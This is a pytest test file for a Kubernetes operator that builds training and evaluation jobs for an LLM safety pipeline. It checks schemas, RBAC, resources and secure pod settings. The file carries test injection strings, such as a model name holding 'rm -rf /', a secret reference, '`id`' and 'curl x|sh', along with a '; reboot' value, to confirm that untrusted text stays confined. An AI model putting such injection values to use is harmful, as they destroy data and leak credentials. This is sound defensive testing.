"""Stage children built from a SafetyEvolution: Jobs, PyTorchJobs and TrainJobs, validated against published schemas."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path
from typing import Any, Iterator

import jsonschema
import kubernetes_validate
import pytest
import yaml
from referencing import Registry, Resource

from seas_operator.api import SafetyEvolution, SafetyEvolutionSpec
from seas_operator.builders import (
    CONFIG_ENV,
    TERMINATION_LOG,
    Owner,
    StageObject,
    build_stage_object,
    escape_env_value,
    stage_command,
    training_backend,
)
from seas_operator.kinds import (
    LABEL_CHILD,
    LABEL_CYCLE,
    LABEL_EVOLUTION,
    LABEL_ROUND,
    LABEL_STAGE,
    child_kind,
    child_selector,
    kind_named,
)
from seas_operator.names import child_name
from seas_operator.rbac import API_CALLS
from seas_operator.stage_configs import build_stage_config
from seas_runtime.contract import (
    Stage,
    StageConfig,
    StageKey,
    dump_stage_config,
    parse_stage_config,
)
from tests.helpers import ROOT
from tests.helpers.factories import done_through

SCHEMAS = ROOT / "tests" / "helpers" / "kubeflow_schemas"
KUBE_VERSIONS = ("1.27.0", kubernetes_validate.latest_version())
OWNER = Owner(name="llama3-8b", namespace="llm-safety", uid="6f1c2d0e-1111-2222-3333-444455556666")
IMAGE = "ghcr.io/seas-dev/seas-runtime:0.1.0"
PVC = "seas-artifacts"
UNTRUSTED = "evil/model; rm -rf / $(HF_TOKEN) `id` && curl x|sh"
EMBEDDED = "embedded:smollm2-135m-instruct"

def K(round_: int, stage: str) -> StageKey:
    return StageKey(round_, Stage(stage))


STAGES = [
    K(0, "initialize"),
    K(0, "evaluate"),
    K(1, "attack"),
    K(1, "pairs"),
    K(1, "train-target"),
    K(1, "train-redteam"),
    K(1, "evaluate"),
]
BACKENDS = ["pytorchjob", "trainjob", "job"]
GPU_STAGES = {"initialize", "attack", "train-target", "train-redteam", "evaluate"}


def _spec(**overrides: Any) -> SafetyEvolutionSpec:
    base: dict[str, Any] = {"rounds": 2, "target": {"model": EMBEDDED}, "redTeam": {"model": EMBEDDED}, "initialization": {"enabled": True}}
    for path, value in overrides.items():
        node = base
        parts = path.split("__")
        for part in parts[:-1]:
            node = node.setdefault(part, {})
        node[parts[-1]] = value
    return SafetyEvolutionSpec.model_validate(base)


def _gpu_cluster_spec() -> SafetyEvolutionSpec:
    docs = yaml.safe_load_all((ROOT / "examples" / "gpu-cluster.yaml").read_text())
    return SafetyEvolution.model_validate(next(d for d in docs if d and d.get("kind") == "SafetyEvolution")).spec


SPECS = {
    "defaults": _spec(),
    "gpu-cluster": _gpu_cluster_spec(),
    "cpu-only": _spec(resources__gpus=0),
    "untrusted": _spec(
        target={"model": UNTRUSTED, "engine": "vllm"},
        redTeam={"model": "$(HOME)/red; reboot"},
        hubTokenSecret={"name": "hf-token", "key": "token"},
        resources__gpus=2,
        resources__nodeSelector={"nvidia.com/gpu.product": "H100"},
        resources__tolerations=[{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}, {"key": "team", "value": "ml"}],
        training__workers=2,
        storage__mountPath="/data/seas",
        image="registry.example/seas-runtime:dev",
    ),
}


def _done(spec: SafetyEvolutionSpec) -> dict[StageKey, Any]:
    """Results of every stage of the evolution, as the runtime would report them."""
    return done_through(spec)


def _config(spec: SafetyEvolutionSpec, key: StageKey) -> StageConfig:
    done = {k: v for k, v in _done(spec).items() if k != key}
    root = f"{spec.storage.mountPath}/{OWNER.namespace}/{OWNER.name}/c0"
    return build_stage_config(OWNER.name, spec, key, done, root, cache_dir=f"{spec.storage.mountPath}/.cache")


def _build(spec: SafetyEvolutionSpec, key: StageKey, backend: str = "pytorchjob", *, name: str | None = None, cycle: int = 0,
           image: str = IMAGE, pvc: str = PVC) -> StageObject:
    return build_stage_object(OWNER, spec, key, _config(spec, key), name=name or child_name(OWNER.name, key, cycle),
                              image=image, pvc=pvc, backend=backend, cycle=cycle)


def _cases() -> Iterator[tuple[str, SafetyEvolutionSpec, StageKey, str]]:
    for spec_name, spec in SPECS.items():
        for key in STAGES:
            for backend in (BACKENDS if key.stage.startswith("train") else ["pytorchjob"]):
                if backend == "job" and spec.training.workers and key.stage.startswith("train"):
                    continue  # a plain Job cannot run workers (see test_job_backend_rejects_workers)
                yield f"{spec_name}-{key.stage}-r{key.round}-{backend}", spec, key, backend


CASES = list(_cases())
IDS = [c[0] for c in CASES]


def pod_specs(obj: StageObject) -> list[dict[str, Any]]:
    """Every pod template spec of a Job or PyTorchJob."""
    if obj.kind == "Job":
        return [obj.body["spec"]["template"]["spec"]]
    if obj.kind == "PyTorchJob":
        return [r["template"]["spec"] for r in obj.body["spec"]["pytorchReplicaSpecs"].values()]
    return []


def pod_labels(obj: StageObject) -> list[dict[str, str]]:
    if obj.kind == "Job":
        return [obj.body["spec"]["template"]["metadata"]["labels"]]
    if obj.kind == "PyTorchJob":
        return [r["template"]["metadata"]["labels"] for r in obj.body["spec"]["pytorchReplicaSpecs"].values()]
    return [o["metadata"]["labels"] for o in obj.body["spec"]["podTemplateOverrides"]] + [obj.body["spec"]["labels"]]


def stage_containers(obj: StageObject) -> list[dict[str, Any]]:
    return [c for pod in pod_specs(obj) for c in pod["containers"]]


def env_of(obj: StageObject) -> list[list[dict[str, Any]]]:
    if obj.kind == "TrainJob":
        return [obj.body["spec"]["trainer"]["env"]]
    return [c["env"] for c in stage_containers(obj)]


def commands_of(obj: StageObject) -> list[Any]:
    if obj.kind == "TrainJob":
        return [obj.body["spec"]["trainer"]["command"]]
    return [c["command"] for c in stage_containers(obj)]


def resources_of(obj: StageObject) -> list[dict[str, Any]]:
    if obj.kind == "TrainJob":
        return [obj.body["spec"]["trainer"]["resourcesPerNode"]]
    return [c["resources"] for c in stage_containers(obj)]


def scheduling_of(obj: StageObject) -> list[dict[str, Any]]:
    if obj.kind == "TrainJob":
        return [o["spec"] for o in obj.body["spec"]["podTemplateOverrides"]]
    return pod_specs(obj)


def kubelet_expand(value: str, env: dict[str, str]) -> str:
    """Kubernetes' $(VAR) expansion of env values and args (k8s.io/kubernetes third_party/forked/golang/expansion)."""
    out, i = [], 0
    while i < len(value):
        if value[i] == "$" and i + 1 < len(value):
            nxt = value[i + 1]
            if nxt == "$":
                out.append("$")
                i += 2
                continue
            if nxt == "(":
                end = value.find(")", i + 2)
                if end != -1:
                    name = value[i + 2:end]
                    out.append(env[name] if name in env else value[i:end + 1])
                    i = end + 1
                    continue
        out.append(value[i])
        i += 1
    return "".join(out)


def container_environment(env: list[dict[str, Any]], secrets: dict[str, str]) -> dict[str, str]:
    """What the process sees: values expanded in order, as the kubelet does."""
    seen: dict[str, str] = {}
    for item in env:
        if "valueFrom" in item:
            ref = item["valueFrom"]["secretKeyRef"]
            seen[item["name"]] = secrets[f"{ref['name']}/{ref['key']}"]
        else:
            seen[item["name"]] = kubelet_expand(item["value"], seen)
    return seen


def _strings(node: Any, path: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _strings(value, f"{path}.{key}")
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from _strings(value, f"{path}[{i}]")
    elif isinstance(node, str):
        yield path, node


def _kubeflow_validator(filename: str) -> jsonschema.protocols.Validator:
    k8s = Path(kubernetes_validate.__file__).parent / "kubernetes-json-schema" / f"v{kubernetes_validate.latest_version()}-local-strict" / "_definitions.json"
    definitions = Resource.from_contents(json.loads(k8s.read_text()))
    schema = json.loads((SCHEMAS / filename).read_text())
    registry = Registry().with_resources([(definitions.id(), definitions), (schema["$id"], Resource.from_contents(schema))])
    return jsonschema.Draft202012Validator(schema, registry=registry)


PYTORCHJOB_SCHEMA = _kubeflow_validator("pytorchjob-kubeflow.org-v1.json")
TRAINJOB_SCHEMA = _kubeflow_validator("trainjob-trainer.kubeflow.org-v1alpha1.json")


# --------------------------------------------------------------------------- kinds and schemas


@pytest.mark.parametrize(
    "stage, backend, kind",
    [(s, b, "Job") for s in ("initialize", "attack", "pairs", "evaluate") for b in BACKENDS]
    + [(s, "pytorchjob", "PyTorchJob") for s in ("train-target", "train-redteam")]
    + [(s, "trainjob", "TrainJob") for s in ("train-target", "train-redteam")]
    + [(s, "job", "Job") for s in ("train-target", "train-redteam")],
)
def test_kind_by_stage_and_backend(stage: str, backend: str, kind: str):
    assert child_kind(stage, backend).kind == kind
    obj = _build(SPECS["defaults"], K(1 if stage != "initialize" else 0, stage), backend)
    assert (obj.kind, obj.body["kind"], obj.child_kind.api_version) == (kind, kind, obj.body["apiVersion"])
    assert obj.child_kind.api_version == (f"{obj.child_kind.group}/v1" if kind != "TrainJob" else f"{obj.child_kind.group}/v1alpha1")
    assert obj.name == obj.body["metadata"]["name"]


@pytest.mark.parametrize("case, spec, key, backend", CASES, ids=IDS)
def test_built_object_matches_its_published_schema(case, spec, key, backend):
    obj = _build(spec, key, backend)
    if obj.kind == "Job":
        for version in KUBE_VERSIONS:
            kubernetes_validate.validate(obj.body, version, strict=True)
    elif obj.kind == "PyTorchJob":
        PYTORCHJOB_SCHEMA.validate(obj.body)
    else:
        TRAINJOB_SCHEMA.validate(obj.body)
    json.dumps(obj.body)  # plain JSON, ready for the API client


def test_every_child_kind_is_created_with_granted_rbac():
    granted = {(group, resource) for group, resource, verb, _ in API_CALLS if verb == "create"}
    for backend in BACKENDS:
        obj = _build(SPECS["defaults"], K(1, "train-target"), backend)
        assert (obj.child_kind.group, obj.child_kind.plural) in granted, obj.kind
    assert ("batch", "jobs") in granted


def test_the_schemas_reject_what_the_api_would_prune_or_refuse():
    obj = _build(SPECS["untrusted"], K(1, "train-target"), "pytorchjob")
    bad = copy.deepcopy(obj.body)
    bad["spec"]["pytorchReplicaSpecs"]["Launcher"] = bad["spec"]["pytorchReplicaSpecs"]["Master"]
    with pytest.raises(jsonschema.ValidationError):
        PYTORCHJOB_SCHEMA.validate(bad)
    bad = copy.deepcopy(obj.body)
    bad["spec"]["pytorchReplicaSpecs"]["Master"]["template"]["spec"]["containers"][0]["comand"] = ["x"]
    with pytest.raises(jsonschema.ValidationError):
        PYTORCHJOB_SCHEMA.validate(bad)
    tj = _build(SPECS["untrusted"], K(1, "train-target"), "trainjob")
    bad = copy.deepcopy(tj.body)
    bad["spec"]["podTemplateOverrides"][0]["spec"]["containers"][0]["command"] = ["x"]  # not overridable
    with pytest.raises(jsonschema.ValidationError):
        TRAINJOB_SCHEMA.validate(bad)
    bad = copy.deepcopy(tj.body)
    bad["metadata"]["name"] = "1abc"
    with pytest.raises(jsonschema.ValidationError):
        TRAINJOB_SCHEMA.validate(bad)


# --------------------------------------------------------------------------- command, config and untrusted text


@pytest.mark.parametrize("case, spec, key, backend", CASES, ids=IDS)
def test_command_is_an_argument_list_and_config_travels_in_env(case, spec, key, backend):
    obj = _build(spec, key, backend)
    for command in commands_of(obj):
        assert command == stage_command(key.stage) == ["seas-runtime", key.stage, "--config-env", CONFIG_ENV, "--termination-log", TERMINATION_LOG]
        assert all(isinstance(arg, str) for arg in command)
        assert not {"sh", "bash", "/bin/sh", "/bin/bash", "-c"} & set(command)
    for container in stage_containers(obj):
        assert "args" not in container
    assert "args" not in (obj.body["spec"].get("trainer") or {})
    for env in env_of(obj):
        names = [e["name"] for e in env]
        assert len(names) == len(set(names))
        seen = container_environment(env, {"hf-token/token": "hf_secret"})
        config = parse_stage_config(seen[CONFIG_ENV])
        assert config.stage == key.stage and config.round == key.round
        assert json.loads(seen[CONFIG_ENV]) == dump_stage_config(_config(spec, key))
        mount = spec.storage.mountPath.rstrip("/")
        assert seen["SEAS_CACHE_DIR"] == f"{mount}/.cache"
        assert seen["HF_HOME"] == f"{mount}/.cache/huggingface"


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize("key", STAGES, ids=[f"{k.stage}-r{k.round}" for k in STAGES])
def test_untrusted_strings_only_reach_the_config_env_value(key: StageKey, backend: str):
    spec = SPECS["untrusted"]
    if backend == "job" and key.stage.startswith("train"):
        spec = spec.model_copy(update={"training": spec.training.model_copy(update={"workers": 0})})
    obj = _build(spec, key, backend)
    config = _config(spec, key)
    expected_markers = [m for m in ("rm -rf", "reboot") if m in json.dumps(dump_stage_config(config))]
    found = [(path, text) for path, text in _strings(obj.body) if any(m in text for m in ("rm -rf", "reboot", "$(HF_TOKEN)", "$(HOME)"))]
    for path, text in found:
        assert re.search(r"\.env\[0\]\.value$", path), f"untrusted text at {path}"
    assert bool(found) == bool(expected_markers)


@pytest.mark.parametrize("backend", BACKENDS)
def test_dollar_references_in_the_spec_cannot_pull_in_the_secret(backend: str):
    spec = _spec(target={"model": "$(HF_TOKEN)"}, redTeam={"model": "$$(HF_TOKEN)"}, hubTokenSecret={"name": "hf-token"})
    key = K(1, "train-target") if backend != "job" else K(1, "attack")
    obj = _build(spec, key, backend)
    for env in env_of(obj):
        seen = container_environment(env, {"hf-token/token": "hf_secret"})
        assert "hf_secret" not in seen[CONFIG_ENV]
        assert json.loads(seen[CONFIG_ENV]) == dump_stage_config(_config(spec, key))
        assert [e["name"] for e in env][-1] == "HF_TOKEN"
    assert escape_env_value("a$b$$c$(X)") == "a$$b$$$$c$$(X)"
    assert kubelet_expand(escape_env_value("a$b$$c$(X)"), {"X": "leak"}) == "a$b$$c$(X)"


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize("spec_name", list(SPECS))
def test_hf_token_only_when_a_secret_is_named(spec_name: str, backend: str):
    spec = SPECS[spec_name]
    if backend == "job" and spec.training.workers:
        return
    obj = _build(spec, K(1, "train-target"), backend)
    for env in env_of(obj):
        tokens = [e for e in env if e["name"] == "HF_TOKEN"]
        if spec.hubTokenSecret is None:
            assert tokens == []
        else:
            assert tokens == [{"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": spec.hubTokenSecret.name, "key": spec.hubTokenSecret.key}}}]
            assert "value" not in tokens[0]


# --------------------------------------------------------------------------- resources and scheduling


@pytest.mark.parametrize("case, spec, key, backend", CASES, ids=IDS)
def test_resources_gpus_and_scheduling(case, spec, key, backend):
    obj = _build(spec, key, backend)
    for resources in resources_of(obj):
        if key.stage == "pairs":
            assert "nvidia.com/gpu" not in resources["limits"] and "nvidia.com/gpu" not in resources["requests"]
            assert resources["requests"]["cpu"] == "1" and resources["limits"]["memory"] == resources["requests"]["memory"]
            continue
        disk = spec.resources.ephemeralStorage
        assert resources["requests"] == {"cpu": spec.resources.cpu, "memory": spec.resources.memory, "ephemeral-storage": disk}
        assert resources["limits"]["memory"] == spec.resources.memory
        assert resources["limits"]["ephemeral-storage"] == disk
        if spec.resources.gpus:
            assert resources["limits"]["nvidia.com/gpu"] == str(spec.resources.gpus)
        else:
            assert "nvidia.com/gpu" not in resources["limits"]
    for pod in scheduling_of(obj):
        if spec.resources.nodeSelector:
            assert pod["nodeSelector"] == spec.resources.nodeSelector
        else:
            assert "nodeSelector" not in pod
        expected = [t.model_dump(exclude_none=True) for t in spec.resources.tolerations]
        assert pod.get("tolerations", []) == expected
        shm = [v for v in pod["volumes"] if v["name"] == "dshm"]
        assert bool(shm) == (key.stage in GPU_STAGES and spec.resources.gpus > 0)
        if shm:  # a runaway writer to /dev/shm is bounded, not the node's memory
            assert shm[0]["emptyDir"] == {"medium": "Memory", "sizeLimit": spec.resources.shmSize}


def test_tolerations_keep_only_what_was_set():
    obj = _build(SPECS["untrusted"], K(1, "attack"))
    assert obj.body["spec"]["template"]["spec"]["tolerations"] == [
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"},
        {"key": "team", "operator": "Equal", "value": "ml"},
    ]


@pytest.mark.parametrize("field, value", [("cpu", "four"), ("memory", "32 GB"), ("cpu", "")])
def test_bad_quantities_fail_before_the_api_server(field: str, value: str):
    spec = _spec(**{f"resources__{field}": value})
    with pytest.raises(ValueError, match=f"spec.resources.{field}"):
        _build(spec, K(1, "attack"))


# --------------------------------------------------------------------------- metadata, ownership, security


@pytest.mark.parametrize("case, spec, key, backend", CASES, ids=IDS)
def test_owner_reference_and_labels(case, spec, key, backend):
    obj = _build(spec, key, backend, cycle=0)
    meta = obj.body["metadata"]
    assert meta["namespace"] == OWNER.namespace
    assert meta["ownerReferences"] == [{
        "apiVersion": "seas.dev/v1alpha1", "kind": "SafetyEvolution", "name": OWNER.name, "uid": OWNER.uid,
        "controller": True, "blockOwnerDeletion": True,
    }]
    expected = {
        "app.kubernetes.io/managed-by": "seas-operator", LABEL_EVOLUTION: OWNER.name, LABEL_ROUND: str(key.round),
        LABEL_STAGE: key.stage, LABEL_CYCLE: "0", LABEL_CHILD: obj.name,
    }
    assert meta["labels"] == expected
    for labels in pod_labels(obj):
        assert labels == expected
    assert child_selector(obj.name) == f"{LABEL_CHILD}={obj.name}"


def test_cycle_label_and_names_of_later_cycles():
    key = K(1, "evaluate")
    obj = _build(SPECS["defaults"], key, cycle=3)
    assert obj.name == "llama3-8b-c3-r1-evaluate"
    assert obj.body["metadata"]["labels"][LABEL_CYCLE] == "3"


@pytest.mark.parametrize("case, spec, key, backend", CASES, ids=IDS)
def test_pods_run_unprivileged(case, spec, key, backend):
    obj = _build(spec, key, backend)
    if obj.kind == "TrainJob":
        override = obj.body["spec"]["podTemplateOverrides"][0]["spec"]
        pods, containers = [override], override["containers"]
    else:
        pods, containers = pod_specs(obj), stage_containers(obj)
        for pod in pods:
            assert pod["restartPolicy"] == "Never"
            assert pod["automountServiceAccountToken"] is False
    for pod in pods:
        sc = pod["securityContext"]
        assert sc["runAsNonRoot"] is True and sc["runAsUser"] == 10001 and sc["fsGroup"] == 10001
        assert sc["seccompProfile"] == {"type": "RuntimeDefault"}
        assert {"name": "artifacts", "persistentVolumeClaim": {"claimName": spec.storage.pvc or PVC}} in pod["volumes"]
    for container in containers:
        assert container["securityContext"] == {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
        assert {"name": "artifacts", "mountPath": spec.storage.mountPath} in container["volumeMounts"]
        if obj.kind != "TrainJob":
            assert container["terminationMessagePath"] == TERMINATION_LOG == "/dev/termination-log"
            assert container["terminationMessagePolicy"] == "FallbackToLogsOnError"
            assert container["name"] == kind_named(obj.kind).container
            assert container["image"] == (spec.image or IMAGE)


@pytest.mark.parametrize("stage", ["attack", "pairs", "evaluate", "train-target"])
def test_job_spec(stage: str):
    spec = _spec(activeDeadlineSeconds=7200)
    obj = _build(spec, K(1, stage), "job")
    job = obj.body["spec"]
    assert job["backoffLimit"] == 0
    assert job["activeDeadlineSeconds"] == 7200
    assert "ttlSecondsAfterFinished" not in job
    assert job["template"]["spec"]["containers"][0]["name"] == "stage"
    rules = job["podFailurePolicy"]["rules"]
    # A drained node costs no retry; bad config (2) or bad data / unloadable model (3) fails at once.
    assert rules[0] == {"action": "Ignore", "onPodConditions": [{"type": "DisruptionTarget", "status": "True"}]}
    assert rules[1]["action"] == "FailJob"
    assert rules[1]["onExitCodes"] == {"containerName": "stage", "operator": "In", "values": [2, 3]}


def test_bad_disk_or_shm_quantity_is_a_spec_error():
    with pytest.raises(ValueError, match="spec.resources.ephemeralStorage"):
        _build(_spec(resources__ephemeralStorage="lots"), K(1, "attack"), "job")
    with pytest.raises(ValueError, match="spec.resources.shmSize"):
        _build(_spec(resources__shmSize="8 GB"), K(1, "attack"), "job")


@pytest.mark.parametrize("workers", [0, 1, 3])
def test_pytorchjob_master_and_workers(workers: int):
    spec = _spec(training__workers=workers, activeDeadlineSeconds=3600)
    obj = _build(spec, K(1, "train-redteam"), "pytorchjob")
    body = obj.body["spec"]
    replicas = body["pytorchReplicaSpecs"]
    assert replicas["Master"]["replicas"] == 1
    assert ("Worker" in replicas) == (workers > 0)
    if workers:
        assert replicas["Worker"]["replicas"] == workers
        assert replicas["Worker"]["template"] == replicas["Master"]["template"]
        assert replicas["Worker"]["template"] is not replicas["Master"]["template"]
    for replica in replicas.values():
        assert replica["restartPolicy"] == "Never"
        assert [c["name"] for c in replica["template"]["spec"]["containers"]] == ["pytorch"]
    assert body["runPolicy"] == {"backoffLimit": 0, "activeDeadlineSeconds": 3600, "cleanPodPolicy": "Running"}


@pytest.mark.parametrize("workers", [0, 2])
def test_trainjob_shape(workers: int):
    spec = _spec(training__workers=workers, hubTokenSecret={"name": "hf"}, resources__gpus=4)
    obj = _build(spec, K(1, "train-target"), "trainjob")
    body = obj.body["spec"]
    assert body["runtimeRef"] == {"name": "torch-distributed", "kind": "ClusterTrainingRuntime", "apiGroup": "trainer.kubeflow.org"}
    trainer = body["trainer"]
    assert trainer["numNodes"] == workers + 1
    assert trainer["image"] == IMAGE
    assert trainer["resourcesPerNode"]["limits"]["nvidia.com/gpu"] == "4"
    override = body["podTemplateOverrides"][0]
    assert override["targetJobs"] == [{"name": "node"}]
    assert [c["name"] for c in override["spec"]["containers"]] == ["node"]
    assert "env" not in override["spec"]["containers"][0]  # the "node" container's env only goes through spec.trainer
    assert kind_named("TrainJob").container == "node"


def test_job_backend_rejects_workers():
    spec = _spec(training__workers=2)
    with pytest.raises(ValueError, match="workers"):
        _build(spec, K(1, "train-target"), "job")
    _build(spec, K(1, "attack"), "job")  # only training cares


# --------------------------------------------------------------------------- operator defaults and spec overrides


@pytest.mark.parametrize(
    "spec_backend, default, expected",
    [(None, "pytorchjob", "pytorchjob"), (None, "trainjob", "trainjob"), (None, "job", "job"),
     ("job", "pytorchjob", "job"), ("trainjob", "job", "trainjob"), ("pytorchjob", "trainjob", "pytorchjob")],
)
def test_training_backend_prefers_the_spec(spec_backend, default, expected):
    spec = _spec(training__backend=spec_backend)
    assert training_backend(spec, default) == expected
    obj = _build(spec, K(1, "train-target"), default)
    assert obj.kind == {"pytorchjob": "PyTorchJob", "trainjob": "TrainJob", "job": "Job"}[expected]


def test_unknown_operator_default_backend_is_an_error():
    with pytest.raises(ValueError, match="backend"):
        training_backend(_spec(), "mpijob")


def test_spec_image_and_pvc_override_the_operator_defaults():
    spec = _spec(image="registry.example/rt:1", storage={"pvc": "team-pvc"})
    job = _build(spec, K(1, "attack"), image="default/image:1", pvc="default-pvc").body
    pod = job["spec"]["template"]["spec"]
    assert pod["containers"][0]["image"] == "registry.example/rt:1"
    assert pod["volumes"][0]["persistentVolumeClaim"]["claimName"] == "team-pvc"
    plain = _build(_spec(), K(1, "attack"), image="default/image:1", pvc="default-pvc").body["spec"]["template"]["spec"]
    assert plain["containers"][0]["image"] == "default/image:1"
    assert plain["volumes"][0]["persistentVolumeClaim"]["claimName"] == "default-pvc"


@pytest.mark.parametrize(
    "name, backend, workers, ok",
    [
        ("a" * 63, "job", 0, True),
        ("a" * 64, "job", 0, False),
        ("Upper-case", "job", 0, False),
        ("3b-model-r1-attack", "job", 0, True),
        ("3b-model-r1-train-target", "pytorchjob", 0, False),
        ("3b-model-r1-train-target", "trainjob", 0, False),
        ("a" * 54, "pytorchjob", 0, True),   # <name>-master-0
        ("a" * 55, "pytorchjob", 0, False),
        ("a" * 54, "pytorchjob", 10, True),   # <name>-worker-9
        ("a" * 54, "pytorchjob", 11, False),  # <name>-worker-10
        ("a" * 63, "trainjob", 0, True),
    ],
)
def test_child_names_are_checked(name: str, backend: str, workers: int, ok: bool):
    spec = _spec(training__workers=workers)
    key = K(1, "train-target") if backend != "job" else K(1, "attack")
    if ok:
        assert _build(spec, key, backend, name=name).name == name
    else:
        with pytest.raises(ValueError):
            _build(spec, key, backend, name=name)


def test_building_is_deterministic_and_pure():
    spec = SPECS["untrusted"]
    key = K(1, "train-target")
    config = _config(spec, key)
    before = copy.deepcopy(config)
    a = build_stage_object(OWNER, spec, key, config, name="x-r1-train-target", image=IMAGE, pvc=PVC, backend="pytorchjob")
    b = build_stage_object(OWNER, spec, key, config, name="x-r1-train-target", image=IMAGE, pvc=PVC, backend="pytorchjob")
    assert a == b and json.dumps(a.body, sort_keys=True) == json.dumps(b.body, sort_keys=True)
    assert config == before


def test_unknown_backend_is_an_error():
    with pytest.raises(ValueError, match="backend"):
        child_kind(Stage.TRAIN_TARGET, "mpijob")


@pytest.mark.parametrize(
    "key, cycle, attempt, name",
    [
        (K(0, "evaluate"), 0, 0, "demo-r0-evaluate"),
        (K(3, "train-redteam"), 0, 0, "demo-r3-train-redteam"),
        (K(1, "attack"), 2, 0, "demo-c2-r1-attack"),
        (K(1, "attack"), 0, 2, "demo-r1-attack-retry2"),
    ],
)
def test_child_names_are_deterministic(key, cycle, attempt, name):
    assert child_name("demo", key, cycle, attempt) == name
